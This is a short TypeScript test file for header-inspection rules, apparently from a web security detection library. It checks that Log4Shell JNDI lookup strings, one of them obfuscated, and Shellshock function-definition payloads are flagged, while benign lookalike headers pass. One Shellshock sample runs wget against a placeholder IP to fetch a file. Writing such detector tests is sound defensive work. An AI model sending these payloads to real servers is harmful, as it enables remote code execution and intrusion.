import type { EventDetail } from '../../src/event/event.js'
import { REQUEST_HEADERS } from '../../src/rules/request-headers.js'
import { request, testTwins } from './twins.js'

testTwins(REQUEST_HEADERS.rules, (detail: EventDetail) => request('/', detail), [
  {
    id: 'header-log4shell',
    attack: [
      { userAgent: '${jndi:ldap://198.51.100.9/a}' },
      { referrer: '${${::-j}ndi:rmi://198.51.100.9}' },
      { host: '${jndi:dns://a}' },
    ],
    ordinary: [{ referrer: 'https://example.org/search?q=jndi' }, { userAgent: 'Mozilla/5.0 ($)' }],
  },
  {
    id: 'header-shellshock',
    attack: [
      { userAgent: '() { :;}; /bin/bash -c "wget http://198.51.100.9/a"' },
      { referrer: '() { _; } >_[$($())] { id; }' },
    ],
    ordinary: [{ referrer: 'https://example.org/js?code=function(){}' }, { userAgent: 'x()' }],
  },
])
